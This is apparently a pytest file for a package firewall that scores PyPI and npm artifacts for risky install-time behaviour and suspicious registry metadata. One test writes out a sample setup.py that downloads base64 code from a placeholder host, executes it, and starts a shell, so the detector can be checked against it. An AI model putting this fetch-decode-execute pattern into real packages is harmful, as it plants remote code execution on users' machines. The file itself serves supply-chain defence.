"""Install-time behaviour signals on real artifacts (tests/fixtures/firewall/artifacts/) and real
registry metadata (tests/fixtures/firewall/registry/), each with its SOURCES.md.

The few inputs written here (a setup.py snippet, random bytes, a PackageFacts) test one rule's
logic and say so; every artifact and registry answer is real and unedited.
"""

from __future__ import annotations

import base64
import os
import shutil
from datetime import timedelta
from pathlib import Path

import pytest

from pipeline.firewall.behaviour.archive import read_archive
from pipeline.firewall.behaviour.content import encoded_payload
from pipeline.firewall.behaviour.setup_py import setup_calls
from pipeline.firewall.behaviour.signals import artifact_signals, metadata_signals
from pipeline.firewall.config import RegistrySettings, firewall_config_from_section
from pipeline.firewall.engine import Firewall
from pipeline.firewall.facts import PackageFacts
from pipeline.firewall.model import DeclaredPackage, Ecosystem
from pipeline.firewall.registry import Registry
from tests.conftest import FIXTURES
from tests.pipeline.firewall.helpers import REAL_REGISTRY, recorded_registry_cache, upload_time

ARTIFACTS = FIXTURES / "firewall" / "artifacts"


@pytest.mark.parametrize(("file_name", "ecosystem", "expected"), [
    ("chromedriver_binary-159.0.8149.0.0.tar.gz", Ecosystem.PYPI,
     [("setup-network", "setup.py:47 calls urllib.request.urlopen")]),
    ("nvidia-pyindex-1.0.9.tar.gz", Ecosystem.PYPI, [("setup-exec", "setup.py:60 calls subprocess.call")]),
    ("esbuild-0.28.2.tgz", Ecosystem.NPM, [
        ("hook-network", "install.js (run by the postinstall hook) uses https://"),
        ("hook-exec", "install.js (run by the postinstall hook) uses require('child_process')")]),
    ("fsevents-2.3.3.tgz", Ecosystem.NPM, [("bundled-binary", "fsevents.node is Mach-O")]),
    ("xxhash-wasm-0.4.2.tgz", Ecosystem.NPM, [("encoded-payload", "cjs/xxhash-wasm.js holds a numeric byte array")]),
    ("six-1.17.0.tar.gz", Ecosystem.PYPI, []),
    ("left-pad-1.3.0.tgz", Ecosystem.NPM, []),
])
def test_each_real_artifact_shows_its_signals_and_plain_ones_none(file_name: str, ecosystem: Ecosystem,
                                                                  expected: list[tuple[str, str]]) -> None:
    signals = artifact_signals(ecosystem, read_archive(ARTIFACTS / file_name))
    assert [signal.rule for signal in signals] == [rule for rule, _ in expected]
    for signal, (_, evidence) in zip(signals, expected, strict=True):
        assert signal.evidence.startswith(evidence)


def test_setup_py_is_read_as_code_not_text() -> None:
    """Written for this test: names in comments and strings are not calls; aliases and fallbacks resolve."""
    source = b'''# urlopen(evil) in a comment, and os.system in a string: "os.system('x')"
import subprocess as sp
try:
    from urllib.request import urlopen as fetch
except ImportError:
    from urllib2 import urlopen as fetch
from base64 import b64decode
def build():
    exec(b64decode(fetch("https://example.invalid/p").read()))
    sp.Popen(["sh"])
'''
    assert setup_calls(source) == {
        "network": ["setup.py:9 calls urllib.request.urlopen"],
        "decode": ["setup.py:9 calls base64.b64decode"],
        "exec": ["setup.py:9 calls exec", "setup.py:10 calls subprocess.Popen"],
    }
    assert setup_calls(b"def broken(:\n") == {}


def test_encoded_payloads_need_length_and_randomness() -> None:
    """Written for this test: random bytes encoded, against long but regular text."""
    blob = base64.b64encode(os.urandom(600))
    assert encoded_payload(b"x = '" + blob + b"'") == f"a base64 blob of {len(blob)} characters"
    assert encoded_payload(b"x = '" + os.urandom(200).hex().encode() + b"'") == "a hex blob of 400 characters"
    assert encoded_payload(b"A" * 1000) is None
    assert encoded_payload(b"abcdefghij" * 100) is None


def test_metadata_signals_name_a_borrowed_repository_and_a_throwaway_mailbox() -> None:
    """Written for this test: facts like a starjacking squat's (real squats are removed from the registries)."""
    facts = PackageFacts(releases=(), maintainers=1, links=("https://github.com/psf/requests",),
                         emails=("dev@mailinator.com",))
    signals = metadata_signals(Ecosystem.PYPI, "fastjsonlib", facts, lambda name: name == "requests")
    assert [(s.rule, s.evidence) for s in signals] == [
        ("repository-of-popular", "links to github.com/psf/requests, the repository of the popular requests, "
                                  "not of fastjsonlib"),
        ("disposable-email", "published with a throwaway mailbox: dev@mailinator.com"),
    ]
    unknown = metadata_signals(Ecosystem.PYPI, "fastjsonlib", facts, lambda name: False)
    assert next((s.rule, s.evidence) for s in unknown) == (
        "repository-mismatch", "links to github.com/psf/requests, whose name has nothing of fastjsonlib")
    own = PackageFacts(releases=(), maintainers=1, links=("https://github.com/babel/babel",))
    assert metadata_signals(Ecosystem.NPM, "@babel/core", own, lambda name: True) == []


@pytest.fixture
def cache(tmp_path: Path) -> Path:
    return recorded_registry_cache(tmp_path)


def firewall(cache: Path, section: dict[str, object] | None = None) -> Firewall:
    config = firewall_config_from_section(section or {}, "test", REAL_REGISTRY)
    registry = Registry(RegistrySettings(cache_dir=cache, offline=True, downloads=False, stars=False), env={})
    later = upload_time("pypi-six.json", "1.17.0") + timedelta(days=700)
    return Firewall(config, registry, clock=lambda: later)


def cache_artifact(cache: Path, host: str, file_name: str, as_name: str | None = None) -> None:
    target = cache / "artifacts" / host / (as_name or file_name)
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(ARTIFACTS / file_name, target)


def test_a_cached_artifact_adds_its_signals_with_points_and_evidence_to_the_answer(cache: Path) -> None:
    cache_artifact(cache, "registry.npmjs.org", "fsevents-2.3.3.tgz")
    answer = firewall(cache).check(DeclaredPackage("fsevents", Ecosystem.NPM, "", 1)).answer()
    assert answer["artifact"] == "inspected fsevents-2.3.3.tgz from the artifact cache"
    assert answer["signals"] == [{"signal": "bundled-binary", "points": 10, "evidence": "fsevents.node is Mach-O"}]
    assert {"rule": "bundled-binary", "points": 10, "detail": "fsevents.node is Mach-O"} in answer["reasons"]
    assert list(answer)[:9] == ["package_name", "platform", "version", "score", "risk_level", "status", "message",
                                "similar_packages", "reasons"]


def test_a_mirrors_relative_artifact_url_resolves_and_points_come_from_the_table(cache: Path) -> None:
    # The PyPI served here gives nvidia-pyindex's sdist a URL relative to the JSON API's (as recorded).
    cache_artifact(cache, "pypi.org", "nvidia-pyindex-1.0.9.tar.gz")
    section = {"reputation": {"rules": {"setup-exec": {"points": 40}}}}
    answer = firewall(cache, section).check(DeclaredPackage("nvidia-pyindex", Ecosystem.PYPI, "", 1)).answer()
    assert answer["artifact"] == "inspected nvidia-pyindex-1.0.9.tar.gz from the artifact cache"
    assert answer["signals"] == [
        {"signal": "setup-exec", "points": 40, "evidence": "setup.py:60 calls subprocess.call"}]


def test_an_artifact_that_does_not_match_the_registrys_digest_is_not_believed(cache: Path) -> None:
    cache_artifact(cache, "registry.npmjs.org", "left-pad-1.3.0.tgz", as_name="fsevents-2.3.3.tgz")
    answer = firewall(cache).check(DeclaredPackage("fsevents", Ecosystem.NPM, "", 1)).answer()
    assert answer["artifact"] == "fsevents-2.3.3.tgz is not in the artifact cache (offline)"
    assert answer["signals"] == []


def test_without_the_artifact_the_answer_says_why_and_metadata_signals_still_count(cache: Path) -> None:
    verdict = firewall(cache).check(DeclaredPackage("six", Ecosystem.PYPI, "", 1))
    assert verdict.artifact == "six-1.17.0.tar.gz is not in the artifact cache (offline)"
    assert verdict.signals == ()  # six links to github.com/benjaminp/six: its own repository


def test_inspect_artifacts_is_a_boolean_in_the_firewall_section() -> None:
    assert firewall_config_from_section({"inspect-artifacts": True}, "t", REAL_REGISTRY).inspect_artifacts
    with pytest.raises(Exception, match="inspect-artifacts"):
        firewall_config_from_section({"inspect-artifacts": "yes"}, "t", REAL_REGISTRY)
